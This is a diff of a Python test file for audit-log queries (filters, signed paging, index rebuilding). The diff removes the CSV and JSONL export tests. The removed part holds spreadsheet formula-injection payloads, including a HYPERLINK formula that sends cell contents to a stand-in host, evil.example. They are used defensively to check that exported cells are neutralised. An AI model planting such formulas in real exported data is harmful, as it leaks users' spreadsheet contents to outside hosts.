@@ -1,13 +1,11 @@
 """Audit queries on in-memory fakes: filters, paging with signed continuation tokens, selective
-queries that read one index partition, the index kept by the chain's listener, and exports
-that a spreadsheet cannot turn into formulas."""
+queries that read one index partition, and the index kept by the chain's listener (exports:
+test_audit_export.py)."""
 
 from __future__ import annotations
 
 import asyncio
 import base64
-import csv
-import io
 import json
 import logging
 from collections.abc import AsyncIterator, Iterable
@@ -17,16 +15,12 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from shared.audit import AuditChain, canonical_json, record_hash
+from shared.audit import AuditChain
 from shared.audit_query import (
     CLOCK_SLACK,
-    ROW_FIELDS,
     AuditFilter,
     AuditQuery,
-    export_csv,
-    export_jsonl,
     index_entries,
-    to_row,
 )
 from shared.errors import InvalidInput
 from shared.models import Actor, AuditEntry, AuditEvent, AuditRecord
@@ -467,54 +461,3 @@ async def test_reindex_rebuilds_the_same_answers_from_the_chain() -> None:
     rebuilt = await query.reindex()
     assert rebuilt.records == 300 and rebuilt.entries == 300 * 5
     assert [r.seq for r in await collect(query.matching(flt))] == before and before
-
-
-# Exports -----------------------------------------------------------------------------------
-
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(A1:A9)"]
-CONTROL_STARTS = ["\tcmd", "\r=1+1"]
-
-
-async def _records(*entries: AuditEntry) -> AsyncIterator[AuditRecord]:
-    for record in await AuditChain(MemoryAuditStore()).append_all(list(entries)):
-        yield record
-
-
-async def _csv_rows(records: AsyncIterator[AuditRecord]) -> list[list[str]]:
-    text = "".join([line async for line in export_csv(records)])
-    return list(csv.reader(io.StringIO(text, newline="")))
-
-
-@pytest.mark.parametrize("dangerous", FORMULAS + CONTROL_STARTS)
-async def test_csv_cells_never_start_a_formula(dangerous: str) -> None:
-    rows = await _csv_rows(_records(entry(1, actor=dangerous, reason=dangerous)))
-    header, row = rows
-    assert header == list(ROW_FIELDS)
-    cells = dict(zip(header, row, strict=True))
-    assert cells["reason"] == "'" + dangerous and cells["actor"] == "'" + dangerous
-
-
-async def test_csv_keeps_commas_quotes_and_newlines_in_reasons() -> None:
-    reasons = ['a, "quoted" reason', "line one\nline two\r\nthree", "Überprüfung – ok", ""]
-    rows = await _csv_rows(_records(*(entry(n, reason=r) for n, r in enumerate(reasons, 1))))
-    assert len(rows) == len(reasons) + 1
-    assert [dict(zip(rows[0], row, strict=True))["reason"] for row in rows[1:]] == reasons
-
-
-async def test_csv_rows_are_the_flat_rows() -> None:
-    source = [r async for r in _records(entry(1, incident="INC-1", alert="a-1"))]
-    [row] = (await _csv_rows(_records(entry(1, incident="INC-1", alert="a-1"))))[1:]
-    flat = to_row(source[0])
-    assert row == list(flat.values())
-    assert flat["result"] == '{"n":1}' and flat["incident_id"] == "INC-1"
-    assert flat["seq"] == "1" and flat["actor_kind"] == "app"
-
-
-async def test_jsonl_lines_let_an_auditor_recompute_each_hash() -> None:
-    lines = [line async for line in export_jsonl(_records(entry(1), entry(2, reason="a\nb")))]
-    assert len(lines) == 2 and all(line.endswith("\n") and line.count("\n") == 1 for line in lines)
-    for line in lines:
-        item = json.loads(line)
-        assert set(item) == {"seq", "prev_hash", "hash", "entry"}
-        body = canonical_json(item["entry"])
-        assert record_hash(item["seq"], item["prev_hash"], body) == item["hash"]
